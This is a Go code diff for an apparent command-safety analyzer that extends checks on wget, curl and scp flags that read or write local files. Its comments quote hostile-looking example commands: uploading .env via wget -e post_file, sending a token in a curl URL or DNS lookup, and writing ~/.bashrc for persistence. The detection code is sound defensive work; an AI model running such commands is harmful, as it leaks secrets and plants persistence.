@@ -146,7 +146,7 @@ func (a *analyzer) network(f *rfact, idx int, lb string, args []word, sc *scope)
 	case "ssh":
 		c.sshCommand()
 	case "wget":
-		c.args = wgetExecute(args)
+		c.args = wgetExecute(args, t.Files)
 	case "curl":
 		c.curlConfig()
 	}
@@ -158,6 +158,7 @@ func (a *analyzer) network(f *rfact, idx int, lb string, args []word, sc *scope)
 		// curl "https://x/?t=ghp_…", nslookup TOKEN.x: like WebFetch of that URL
 		f.human = reason("human.secret-url", lb+" sends what looks like a credential")
 	}
+	c.localFiles()
 	sensitiveBefore := len(a.facts)
 	if d, ok := copyTarget(args, t.ValueFlags()); ok && t.Copies {
 		a.writeWord(d, sc, idx) // scp host:x ~/.bashrc writes ~/.bashrc
@@ -190,6 +191,34 @@ func (a *analyzer) network(f *rfact, idx int, lb string, args []word, sc *scope)
 		}
 	}
 	return s
+}
+
+// localFiles reads the values of the client's flags whose value is a file
+// it reads or writes here (cmds.NetTool.Files: curl -D FILE, wget
+// --load-cookies FILE): a secret read or a persistence file written is
+// human-only. They are not uploads, so they stay out of the exfil floor.
+func (c *netCall) localFiles() {
+	for i := 0; i < len(c.args); i++ {
+		fl, val, attached := c.t.FileFlag(c.args[i].val)
+		if fl == nil {
+			continue
+		}
+		w := word{val: val, dyn: c.args[i].dyn}
+		if !attached {
+			if i+1 >= len(c.args) {
+				return
+			}
+			i++
+			w = c.args[i]
+		}
+		switch {
+		case w.val == "-": // standard input or output
+		case fl.Role == argv.Read:
+			c.a.readWord(w, c.sc, c.idx, false)
+		case fl.Role == argv.Write:
+			c.a.writeWord(w, c.sc, c.idx)
+		}
+	}
 }
 
 // openssl reads openssl's -in, -key, -inkey (files it reads) and -out (a
@@ -574,8 +603,10 @@ var wgetLong = []string{"post-file", "body-file", "input-file", "post-data", "bo
 	"use-askpass", "use-server-timestamps", "user", "user-agent", "output-document"}
 
 // wgetExecute turns wget -e 'post_file = .env' (a .wgetrc command; names
-// ignore case, '-' and '_') into the option it stands for, --post-file .env.
-func wgetExecute(args []word) []word {
+// ignore case, '-' and '_') into the option it stands for, --post-file .env;
+// also the commands named like one of files, wget's flags whose value is
+// a local file (-e save_cookies=~/.bashrc).
+func wgetExecute(args []word, files []argv.Flag) []word {
 	var extra []word
 	for _, w := range optionValues(args, 'e', "--execute") {
 		n, val, ok := strings.Cut(w.val, "=")
@@ -586,6 +617,13 @@ func wgetExecute(args []word) []word {
 		for _, o := range wgetLong {
 			if strings.ReplaceAll(o, "-", "") == key {
 				extra = append(extra, word{val: "--" + o + "=" + strings.TrimSpace(val), dyn: w.dyn})
+			}
+		}
+		for _, f := range files {
+			for _, o := range strings.Fields(f.Names) {
+				if strings.HasPrefix(o, "--") && strings.ReplaceAll(o, "-", "") == key {
+					extra = append(extra, word{val: o + "=" + strings.TrimSpace(val), dyn: w.dyn})
+				}
 			}
 		}
 	}
